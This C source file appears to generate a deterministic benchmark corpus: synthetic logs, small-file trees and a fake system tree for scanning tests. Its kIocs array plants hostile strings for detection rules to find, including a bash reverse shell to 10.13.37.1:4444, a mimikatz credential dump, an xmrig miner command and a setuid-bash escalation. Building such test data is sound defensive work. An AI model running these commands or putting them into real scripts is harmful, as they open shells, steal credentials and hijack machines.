// Deterministic benchmark corpus generator (compiled at run time by bench/run.py; see
// bench/README.md).
//
//   gen random DIR BYTES SEED NFILES   incompressible files big-NN.bin, BYTES in total
//   gen logs   DIR BYTES SEED          syslog / auth.log / nginx access+error logs, ~5-10x
//   compressible gen small  DIR COUNT SEED          COUNT files of 1-16 KiB in two levels of nested
//   directories gen system DIR BYTES SEED          a system-like tree: ELF-like binaries,
//   libraries, configs,
//                                      logs, scripts, compressed docs, symlinks, a few planted IOCs
//
// The same arguments always give the same bytes: one xoshiro256** stream seeded from SEED, fixed
// UTC timestamps, no dependence on the clock, the locale or the file system's readdir order.
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define ARRAY_LEN(a) (sizeof(a) / sizeof((a)[0]))
#define KIB 1024ull
#define MIB (1024ull * 1024ull)

static void die(const char* fmt, ...) {
  va_list ap;
  va_start(ap, fmt);
  fputs("gen: ", stderr);
  vfprintf(stderr, fmt, ap);
  fputc('\n', stderr);
  va_end(ap);
  exit(1);
}

// ---- random numbers: xoshiro256** seeded with splitmix64 -------------------------------------

static uint64_t rng_state[4];

static uint64_t rotl(uint64_t x, int k) {
  return (x << k) | (x >> (64 - k));
}

static void rng_seed(uint64_t seed) {
  for (int i = 0; i < 4; i++) {
    uint64_t z = (seed += 0x9e3779b97f4a7c15ull);
    z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ull;
    z = (z ^ (z >> 27)) * 0x94d049bb133111ebull;
    rng_state[i] = z ^ (z >> 31);
  }
}

static uint64_t rng64(void) {
  uint64_t* s = rng_state;
  uint64_t result = rotl(s[1] * 5, 7) * 9;
  uint64_t t = s[1] << 17;
  s[2] ^= s[0];
  s[3] ^= s[1];
  s[1] ^= s[2];
  s[0] ^= s[3];
  s[2] ^= t;
  s[3] = rotl(s[3], 45);
  return result;
}

// Uniform in [0, n); the modulo bias is irrelevant for test data.
static uint32_t rnd(uint32_t n) {
  return (uint32_t)((rng64() >> 32) % n);
}
static uint64_t rnd_range(uint64_t lo, uint64_t hi) {
  return lo + rng64() % (hi - lo + 1);
}
#define PICK(arr) ((arr)[rnd(ARRAY_LEN(arr))])

// ---- buffered output ---------------------------------------------------------------------------

typedef struct {
  int fd;
  size_t len;
  uint64_t total;
  char buf[1 << 20];
} Out;

static Out out_buf;

static Out* out_open(const char* path, mode_t mode) {
  out_buf.fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, mode);
  if (out_buf.fd < 0) die("open %s: %s", path, strerror(errno));
  out_buf.len = 0;
  out_buf.total = 0;
  return &out_buf;
}

static void out_flush(Out* o) {
  size_t done = 0;
  while (done < o->len) {
    ssize_t n = write(o->fd, o->buf + done, o->len - done);
    if (n < 0 && errno == EINTR) continue;
    if (n <= 0) die("write: %s", strerror(errno));
    done += (size_t)n;
  }
  o->len = 0;
}

static void out_write(Out* o, const void* data, size_t n) {
  o->total += n;
  while (n > 0) {
    size_t room = sizeof(o->buf) - o->len;
    size_t take = n < room ? n : room;
    memcpy(o->buf + o->len, data, take);
    o->len += take;
    data = (const char*)data + take;
    n -= take;
    if (o->len == sizeof(o->buf)) out_flush(o);
  }
}

static void out_printf(Out* o, const char* fmt, ...) {
  if (sizeof(o->buf) - o->len < 4096) out_flush(o);
  va_list ap;
  va_start(ap, fmt);
  int n = vsnprintf(o->buf + o->len, sizeof(o->buf) - o->len, fmt, ap);
  va_end(ap);
  if (n < 0 || (size_t)n >= sizeof(o->buf) - o->len) die("line too long");
  o->len += (size_t)n;
  o->total += (uint64_t)n;
}

static void out_random(Out* o, uint64_t n) {
  while (n > 0) {
    if (sizeof(o->buf) - o->len < 8) out_flush(o);
    uint64_t v = rng64();
    size_t take = n < 8 ? (size_t)n : 8;
    memcpy(o->buf + o->len, &v, take);
    o->len += take;
    o->total += take;
    n -= take;
  }
}

static void out_close(Out* o) {
  out_flush(o);
  if (close(o->fd) != 0) die("close: %s", strerror(errno));
}

static void make_dirs(const char* path) {
  char tmp[4096];
  snprintf(tmp, sizeof(tmp), "%s", path);
  for (char* p = tmp + 1; *p; p++) {
    if (*p != '/') continue;
    *p = '\0';
    if (mkdir(tmp, 0755) != 0 && errno != EEXIST) die("mkdir %s: %s", tmp, strerror(errno));
    *p = '/';
  }
  if (mkdir(tmp, 0755) != 0 && errno != EEXIST) die("mkdir %s: %s", tmp, strerror(errno));
}

// ---- vocabulary shared by the log and tree generators ------------------------------------------

static const char* kUsers[] = {"root",     "alice",    "bob",     "deploy", "backup",
                               "www-data", "postgres", "jenkins", "ubuntu", "admin",
                               "carol",    "dave",     "git",     "nagios"};
static const char* kBadUsers[] = {"admin", "test",    "oracle",   "user", "guest",
                                  "pi",    "ftpuser", "support",  "ubnt", "hadoop",
                                  "mysql", "steam",   "minecraft"};
static const char* kHosts[] = {"web01", "web02", "db01", "bastion", "build07", "cache03"};
static const char* kPaths[] = {"/",
                               "/index.html",
                               "/api/v1/orders",
                               "/api/v1/users",
                               "/login",
                               "/static/css/site.css",
                               "/static/js/app.js",
                               "/favicon.ico",
                               "/api/v1/search",
                               "/healthz",
                               "/images/logo.png",
                               "/wp-login.php",
                               "/robots.txt",
                               "/api/v2/metrics",
                               "/cart",
                               "/checkout"};
static const char* kAgents[] = {
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/119.0.0.0 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
    "Gecko) Version/17.1 Mobile/15E148 Safari/604.1",
    "curl/7.88.1",
    "python-requests/2.31.0",
    "Go-http-client/1.1",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"};
static const char* kReferrers[] = {"-", "https://www.example.com/", "https://www.google.com/",
                                   "https://shop.example.com/cart", "https://news.example.org/"};
static const char* kUnits[] = {"apt-daily.service", "logrotate.service",
                               "man-db.service",    "systemd-tmpfiles-clean.service",
                               "fstrim.service",    "phpsessionclean.service",
                               "certbot.service",   "sysstat-collect.service"};
static const char* kSyllables[] = {"ka",  "zo",  "mi",  "lex", "tor", "vin", "ra",
                                   "sul", "bex", "dri", "fo",  "gal", "net", "pri",
                                   "qu",  "sto", "tra", "ux",  "wel", "yon"};

static const char* const kMonths[] = {"Jan", "Feb", "Mar", "Apr", "May", "Jun",
                                      "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"};

// A log clock that moves forward 0-2 s per line from a fixed start (2024-11-01 00:00:00 UTC).
typedef struct {
  time_t now;
  struct tm tm;
} LogClock;

static void clock_init(LogClock* c) {
  c->now = 1730419200;
  gmtime_r(&c->now, &c->tm);
}

static void clock_tick(LogClock* c) {
  uint32_t step = rnd(3);
  if (step == 0) return;
  c->now += step;
  gmtime_r(&c->now, &c->tm);
}

static void random_ipv4(char* buf, size_t n, int external) {
  // A few hundred distinct addresses, as in real logs; hash-like spread over the octets.
  uint32_t id = rnd(external ? 400 : 40);
  if (external)
    snprintf(buf, n, "%u.%u.%u.%u", 23 + id % 170, (id * 37) % 256, (id * 91) % 256, 1 + id % 254);
  else
    snprintf(buf, n, "10.%u.%u.%u", id % 4, (id * 7) % 256, 2 + id % 250);
}

// ---- log lines ---------------------------------------------------------------------------------

static void syslog_prefix(Out* o, LogClock* c, const char* host) {
  out_printf(o, "%s %2d %02d:%02d:%02d %s ", kMonths[c->tm.tm_mon], c->tm.tm_mday, c->tm.tm_hour,
             c->tm.tm_min, c->tm.tm_sec, host);
}

static void syslog_line(Out* o, LogClock* c, const char* host) {
  syslog_prefix(o, c, host);
  char ip[32];
  switch (rnd(8)) {
    case 0:
      out_printf(o, "systemd[1]: Started %s - %s.\n", PICK(kUnits), "Daily maintenance");
      break;
    case 1:
      out_printf(o, "CRON[%u]: (root) CMD (   cd / && run-parts --report /etc/cron.hourly)\n",
                 1000 + rnd(60000));
      break;
    case 2:
      random_ipv4(ip, sizeof ip, 0);
      out_printf(o, "dhclient[%u]: DHCPACK of %s from 10.0.0.1 (xid=0x%08x)\n", 400 + rnd(100), ip,
                 rnd(1u << 31));
      break;
    case 3:
      out_printf(o,
                 "kernel: [%u.%06u] audit: type=1400 audit(%ld.%03u:%u): apparmor=\"DENIED\" "
                 "operation=\"open\" profile=\"snap.%s\" name=\"/proc/%u/mounts\" pid=%u "
                 "comm=\"%s\" requested_mask=\"r\" denied_mask=\"r\" fsuid=0 ouid=0\n",
                 rnd(900000), rnd(1000000), (long)c->now, rnd(1000), rnd(9000), PICK(kSyllables),
                 rnd(30000), rnd(30000), PICK(kUsers));
      break;
    case 4:
      out_printf(o, "systemd[1]: %s: Deactivated successfully.\n", PICK(kUnits));
      break;
    case 5:
      out_printf(o,
                 "dockerd[%u]: time=\"%04d-%02d-%02dT%02d:%02d:%02d.%09uZ\" level=info "
                 "msg=\"ignoring event\" container=%016llx%016llx module=libcontainerd "
                 "namespace=moby topic=/tasks/delete type=\"*events.TaskDelete\"\n",
                 800 + rnd(10), c->tm.tm_year + 1900, c->tm.tm_mon + 1, c->tm.tm_mday,
                 c->tm.tm_hour, c->tm.tm_min, c->tm.tm_sec, rnd(1000000000),
                 (unsigned long long)(rnd(64) * 0x9e3779b97f4a7c15ull),
                 (unsigned long long)(rnd(64) * 0xc2b2ae3d27d4eb4full));
      break;
    case 6:
      out_printf(o,
                 "rsyslogd: [origin software=\"rsyslogd\" swVersion=\"8.2302.0\" x-pid=\"%u\" "
                 "x-info=\"https://www.rsyslog.com\"] rsyslogd was HUPed\n",
                 500 + rnd(50));
      break;
    default:
      out_printf(o, "systemd-logind[%u]: New session %u of user %s.\n", 600 + rnd(20),
                 1000 + rnd(90000), PICK(kUsers));
      break;
  }
}

static void auth_line(Out* o, LogClock* c, const char* host) {
  syslog_prefix(o, c, host);
  char ip[32];
  uint32_t pid = 1000 + rnd(60000);
  switch (rnd(7)) {
    case 0:
      random_ipv4(ip, sizeof ip, 0);
      out_printf(o,
                 "sshd[%u]: Accepted publickey for %s from %s port %u ssh2: ED25519 "
                 "SHA256:k%02uQz3yV8dLwN5mYbX0pT7rH2fJ9sA4cE6gU1iO%02u\n",
                 pid, PICK(kUsers), ip, 32768 + rnd(28000), rnd(20), rnd(20));
      break;
    case 1:
    case 2:
      random_ipv4(ip, sizeof ip, 1);
      out_printf(o, "sshd[%u]: Failed password for invalid user %s from %s port %u ssh2\n", pid,
                 PICK(kBadUsers), ip, 32768 + rnd(28000));
      break;
    case 3:
      out_printf(o,
                 "sshd[%u]: pam_unix(sshd:session): session opened for user %s(uid=%u) by "
                 "(uid=0)\n",
                 pid, PICK(kUsers), 1000 + rnd(14));
      break;
    case 4:
      out_printf(o, "sudo: %8s : TTY=pts/%u ; PWD=/home/%s ; USER=root ; COMMAND=/usr/bin/%s\n",
                 PICK(kUsers), rnd(6), PICK(kUsers),
                 rnd(2) ? "systemctl restart nginx" : "apt-get update");
      break;
    case 5:
      out_printf(o, "CRON[%u]: pam_unix(cron:session): session closed for user root\n", pid);
      break;
    default:
      random_ipv4(ip, sizeof ip, 1);
      out_printf(o, "sshd[%u]: Disconnected from invalid user %s %s port %u [preauth]\n", pid,
                 PICK(kBadUsers), ip, 32768 + rnd(28000));
      break;
  }
}

static void access_line(Out* o, LogClock* c) {
  static const uint32_t kStatus[] = {200, 200, 200, 200, 200, 200, 304, 301, 404, 500};
  char ip[32];
  random_ipv4(ip, sizeof ip, 1);
  uint32_t status = PICK(kStatus);
  const char* method = rnd(10) < 8 ? "GET" : "POST";
  char path[128];
  const char* base = PICK(kPaths);
  if (rnd(3) == 0 && base[1] != '\0')
    snprintf(path, sizeof path, "%s/%u?page=%u", base, rnd(50000), rnd(20));
  else
    snprintf(path, sizeof path, "%s", base);
  out_printf(o,
             "%s - - [%02d/%s/%04d:%02d:%02d:%02d +0000] \"%s %s HTTP/1.1\" %u %u \"%s\" \"%s\"\n",
             ip, c->tm.tm_mday, kMonths[c->tm.tm_mon], c->tm.tm_year + 1900, c->tm.tm_hour,
             c->tm.tm_min, c->tm.tm_sec, method, path, status, status == 304 ? 0 : 200 + rnd(60000),
             PICK(kReferrers), PICK(kAgents));
}

static void error_line(Out* o, LogClock* c) {
  char ip[32];
  random_ipv4(ip, sizeof ip, 1);
  out_printf(o,
             "%04d/%02d/%02d %02d:%02d:%02d [error] %u#%u: *%u open() \"/var/www/html%s\" "
             "failed (2: No such file or directory), client: %s, server: www.example.com, "
             "request: \"GET %s HTTP/1.1\", host: \"www.example.com\"\n",
             c->tm.tm_year + 1900, c->tm.tm_mon + 1, c->tm.tm_mday, c->tm.tm_hour, c->tm.tm_min,
             c->tm.tm_sec, 1000 + rnd(8), rnd(4), rnd(900000), PICK(kPaths), ip, PICK(kPaths));
}

enum LogKind { LOG_SYSLOG, LOG_AUTH, LOG_ACCESS, LOG_ERROR, LOG_KINDS };

// Writes one log file of about `bytes` bytes (whole lines).
static void write_log(const char* path, enum LogKind kind, uint64_t bytes) {
  Out* o = out_open(path, 0640);
  LogClock c;
  clock_init(&c);
  const char* host = PICK(kHosts);
  while (o->total < bytes) {
    clock_tick(&c);
    switch (kind) {
      case LOG_SYSLOG:
        syslog_line(o, &c, host);
        break;
      case LOG_AUTH:
        auth_line(o, &c, host);
        break;
      case LOG_ACCESS:
        access_line(o, &c);
        break;
      default:
        error_line(o, &c);
        break;
    }
  }
  out_close(o);
}

static const char* const kLogNames[LOG_KINDS] = {"syslog", "auth.log", "nginx/access.log",
                                                 "nginx/error.log"};

static void gen_logs(const char* dir, uint64_t bytes) {
  // Files of up to 256 MiB, cycling through the kinds and numbered like rotated logs.
  uint64_t per_file = bytes / 8;
  if (per_file < 1 * MIB) per_file = 1 * MIB;
  if (per_file > 256 * MIB) per_file = 256 * MIB;
  char path[4096];
  snprintf(path, sizeof path, "%s/nginx", dir);
  make_dirs(path);
  uint64_t done = 0;
  for (unsigned i = 0; done < bytes; i++) {
    enum LogKind kind = (enum LogKind)(i % LOG_KINDS);
    unsigned rotation = i / LOG_KINDS;
    if (rotation == 0)
      snprintf(path, sizeof path, "%s/%s", dir, kLogNames[kind]);
    else
      snprintf(path, sizeof path, "%s/%s.%u", dir, kLogNames[kind], rotation);
    uint64_t size = bytes - done < per_file ? bytes - done : per_file;
    write_log(path, kind, size);
    done += out_buf.total;
  }
}

// ---- incompressible files ----------------------------------------------------------------------

static void gen_random(const char* dir, uint64_t bytes, unsigned files) {
  make_dirs(dir);
  char path[4096];
  for (unsigned i = 0; i < files; i++) {
    snprintf(path, sizeof path, "%s/big-%02u.bin", dir, i);
    Out* o = out_open(path, 0644);
    out_random(o, bytes / files + (i == 0 ? bytes % files : 0));
    out_close(o);
  }
}

// ---- file contents for the small-file and system trees ---------------------------------------

// Text that compresses like configuration or source: known words, some numbers.
static void out_text(Out* o, uint64_t bytes) {
  static const char* kWords[] = {"server", "listen", "include", "return", "if",    "then",
                                 "fi",     "export", "PATH",    "user",   "group", "timeout",
                                 "enable", "true",   "false",   "local",  "echo",  "config",
                                 "path",   "value",  "default"};
  uint64_t end = o->total + bytes;
  while (o->total + 64 < end) {
    switch (rnd(4)) {
      case 0:
        out_printf(o, "%s_%s = %u\n", PICK(kWords), PICK(kWords), rnd(100000));
        break;
      case 1:
        out_printf(o, "  %s %s %s;\n", PICK(kWords), PICK(kWords), PICK(kSyllables));
        break;
      case 2:
        out_printf(o, "# %s the %s for %s\n", PICK(kWords), PICK(kWords), PICK(kUsers));
        break;
      default:
        out_printf(o, "%s=\"/usr/lib/%s%s\"\n", PICK(kWords), PICK(kSyllables), PICK(kSyllables));
        break;
    }
  }
  while (o->total < end) out_write(o, "\n", 1);
}

// Bytes with the skewed distribution of machine code (~2-3x compressible).
static void out_code(Out* o, uint64_t bytes) {
  static const uint8_t kCommon[] = {0x00, 0x48, 0x89, 0x8b, 0xff, 0xe8, 0x0f, 0x85, 0x84, 0x24,
                                    0x41, 0x45, 0x31, 0xc0, 0x74, 0x75, 0xc3, 0x83, 0xec, 0x5d,
                                    0x44, 0x4c, 0x8d, 0x05, 0x01, 0xf8, 0x39, 0x10, 0x20, 0x08};
  uint8_t chunk[256];
  while (bytes > 0) {
    size_t n = bytes < sizeof chunk ? (size_t)bytes : sizeof chunk;
    for (size_t i = 0; i < n; i++) {
      uint64_t r = rng64();
      chunk[i] = (r & 3) ? kCommon[(r >> 8) % sizeof kCommon] : (uint8_t)(r >> 16);
    }
    out_write(o, chunk, n);
    bytes -= n;
  }
}

// An ELF-looking file: a real ELF64 header, "code", then a string table (plus an optional IOC).
static void out_elf(Out* o, uint64_t bytes, const char* ioc) {
  static const uint8_t kHeader[64] = {
      0x7f, 'E', 'L',  'F',  2, 1, 1, 0, 0,    0, 0,    0, 0,  0, 0,    0, 3,  0, 0x3e, 0, 1, 0,
      0,    0,   0x40, 0x10, 0, 0, 0, 0, 0,    0, 0x40, 0, 0,  0, 0,    0, 0,  0, 0,    0, 0, 0,
      0,    0,   0,    0,    0, 0, 0, 0, 0x40, 0, 0x38, 0, 13, 0, 0x40, 0, 31, 0, 30,   0};
  static const char* kSymbols[] = {
      "malloc", "free",  "memcpy", "printf",     "__libc_start_main", "pthread_create", "open64",
      "read",   "write", "strlen", "GLIBC_2.34", "GLIBC_2.2.5",       "__cxa_finalize", "getenv"};
  if (bytes < 512) bytes = 512;
  out_write(o, kHeader, sizeof kHeader);
  uint64_t strings = bytes / 8;
  out_code(o, bytes - sizeof kHeader - strings);
  uint64_t end = o->total + strings;
  if (ioc) out_printf(o, "%s%c", ioc, 0);
  while (o->total + 80 < end)
    out_printf(o, "%s%c/usr/lib/%s%s.so.%u%cusage: %s [-v] FILE%c", PICK(kSymbols), 0,
               PICK(kSyllables), PICK(kSyllables), rnd(9), 0, PICK(kSyllables), 0);
  while (o->total < end) out_write(o, "", 1);
}

static void out_script(Out* o, uint64_t bytes, const char* ioc) {
  out_printf(o, "#!/bin/sh\n# generated by the %s package\nset -e\n", PICK(kSyllables));
  if (ioc) out_printf(o, "%s\n", ioc);
  out_text(o, bytes > 80 ? bytes - 80 : 16);
}

static void random_name(char* buf, size_t n, unsigned index) {
  snprintf(buf, n, "%s%s%s%u", PICK(kSyllables), PICK(kSyllables), rnd(2) ? PICK(kSyllables) : "",
           index);
}

// ---- 100,000 small files -----------------------------------------------------------------------

static void gen_small(const char* dir, unsigned count) {
  // Two directory levels of ~sqrt(count/100) each, so leaves hold ~100 files.
  unsigned fan = 1;
  while (fan * fan * 100 < count) fan++;
  char path[4096];
  for (unsigned i = 0; i < count; i++) {
    unsigned leaf = i % (fan * fan);
    snprintf(path, sizeof path, "%s/d%03u/d%03u", dir, leaf / fan, leaf % fan);
    if (i < fan * fan) make_dirs(path);
    uint64_t size = rnd_range(1 * KIB, 16 * KIB);
    uint32_t kind = rnd(4);
    static const char* kExt[] = {".txt", ".json", ".dat", ".bin"};
    size_t len = strlen(path);
    snprintf(path + len, sizeof path - len, "/f%06u%s", i, kExt[kind]);
    Out* o = out_open(path, 0644);
    if (kind < 2)
      out_text(o, size);
    else if (kind == 2)
      out_code(o, size);
    else
      out_random(o, size);
    out_close(o);
  }
}

// ---- a system-like tree -----------------------------------------------------------------------

// Strings that the synthetic YARA rules look for; planted in ~1 of 200 binaries and scripts.
static const char* kIocs[] = {"bash -i >& /dev/tcp/10.13.37.1/4444 0>&1",
                              "sekurlsa::logonpasswords", "xmrig --donate-level=1",
                              "chmod +s /bin/bash", "/tmp/.X11-unix/.rsync/c/kswapd0"};

static const char* maybe_ioc(void) {
  return rnd(200) == 0 ? PICK(kIocs) : NULL;
}

static uint64_t binary_size(void) {
  // Mostly 4-96 KiB, a few up to 4 MiB, like /usr/bin.
  return rnd(32) == 0 ? rnd_range(256 * KIB, 4 * MIB) : rnd_range(4 * KIB, 96 * KIB);
}

// Builds ROOT/SUB/NAME into `path`, creating ROOT/SUB.
static void tree_file(const char* root, const char* sub, const char* name, char* path, size_t n) {
  snprintf(path, n, "%s/%s", root, sub);
  make_dirs(path);
  size_t len = strlen(path);
  snprintf(path + len, n - len, "/%s", name);
}

// Writes one file of a category chosen by weight and returns its size.
static uint64_t system_file(const char* root, unsigned index) {
  char name[128], sub[256], path[4096];
  random_name(name, sizeof name, index);
  uint32_t category = rnd(100);
  Out* o;
  if (category < 30) {  // executables
    tree_file(root, index % 3 ? "usr/bin" : "usr/sbin", name, path, sizeof path);
    o = out_open(path, 0755);
    out_elf(o, binary_size(), maybe_ioc());
  } else if (category < 45) {  // shared libraries, with the usual symlink
    char lib[160];
    snprintf(lib, sizeof lib, "lib%s.so.%u", name, rnd(4));
    tree_file(root, "usr/lib/x86_64-linux-gnu", lib, path, sizeof path);
    o = out_open(path, 0644);
    out_elf(o, binary_size(), NULL);
    char link[4096];
    snprintf(link, sizeof link, "%s/usr/lib/x86_64-linux-gnu/lib%s.so", root, name);
    if (symlink(lib, link) != 0 && errno != EEXIST) die("symlink %s: %s", link, strerror(errno));
  } else if (category < 65) {  // configuration
    snprintf(sub, sizeof sub, "etc/%s", PICK(kSyllables));
    strcat(name, rnd(2) ? ".conf" : ".yaml");
    tree_file(root, sub, name, path, sizeof path);
    o = out_open(path, 0644);
    out_text(o, rnd_range(200, 8 * KIB));
  } else if (category < 80) {  // scripts
    snprintf(sub, sizeof sub, "usr/share/%s/scripts", PICK(kSyllables));
    strcat(name, ".sh");
    tree_file(root, sub, name, path, sizeof path);
    o = out_open(path, 0755);
    out_script(o, rnd_range(500, 32 * KIB), maybe_ioc());
  } else if (category < 90) {  // compressed documentation: incompressible
    snprintf(sub, sizeof sub, "usr/share/doc/%s", PICK(kSyllables));
    strcat(name, ".gz");
    tree_file(root, sub, name, path, sizeof path);
    o = out_open(path, 0644);
    out_random(o, rnd_range(1 * KIB, 64 * KIB));
  } else {  // application logs
    snprintf(sub, sizeof sub, "var/log/%s", PICK(kSyllables));
    strcat(name, ".log");
    tree_file(root, sub, name, path, sizeof path);
    write_log(path, (enum LogKind)rnd(LOG_KINDS), rnd_range(4 * KIB, 256 * KIB));
    return out_buf.total;
  }
  out_close(o);
  return o->total;
}

static void gen_system(const char* dir, uint64_t bytes) {
  make_dirs(dir);
  uint64_t done = 0;
  // The big system logs first (about a tenth of the tree), then files until the size is reached.
  char path[4096];
  snprintf(path, sizeof path, "%s/var/log", dir);
  make_dirs(path);
  for (int kind = 0; kind < 2; kind++) {
    snprintf(path, sizeof path, "%s/var/log/%s", dir, kind == 0 ? "syslog" : "auth.log");
    write_log(path, (enum LogKind)kind, bytes / 20);
    done += out_buf.total;
  }
  for (unsigned i = 0; done < bytes; i++) done += system_file(dir, i);
}

// ---- main --------------------------------------------------------------------------------------

static uint64_t parse_u64(const char* s) {
  char* end;
  errno = 0;
  unsigned long long v = strtoull(s, &end, 10);
  if (errno || *end || end == s) die("not a number: %s", s);
  return v;
}

int main(int argc, char** argv) {
  if (argc < 5) {
    fprintf(stderr,
            "usage: gen random DIR BYTES SEED NFILES | gen logs DIR BYTES SEED |\n"
            "       gen small DIR COUNT SEED | gen system DIR BYTES SEED\n");
    return 2;
  }
  umask(022);
  const char* mode = argv[1];
  const char* dir = argv[2];
  uint64_t amount = parse_u64(argv[3]);
  rng_seed(parse_u64(argv[4]));
  if (strcmp(mode, "random") == 0 && argc == 6)
    gen_random(dir, amount, (unsigned)parse_u64(argv[5]));
  else if (strcmp(mode, "logs") == 0)
    gen_logs(dir, amount);
  else if (strcmp(mode, "small") == 0)
    gen_small(dir, (unsigned)amount);
  else if (strcmp(mode, "system") == 0)
    gen_system(dir, amount);
  else
    die("unknown mode %s", mode);
  return 0;
}
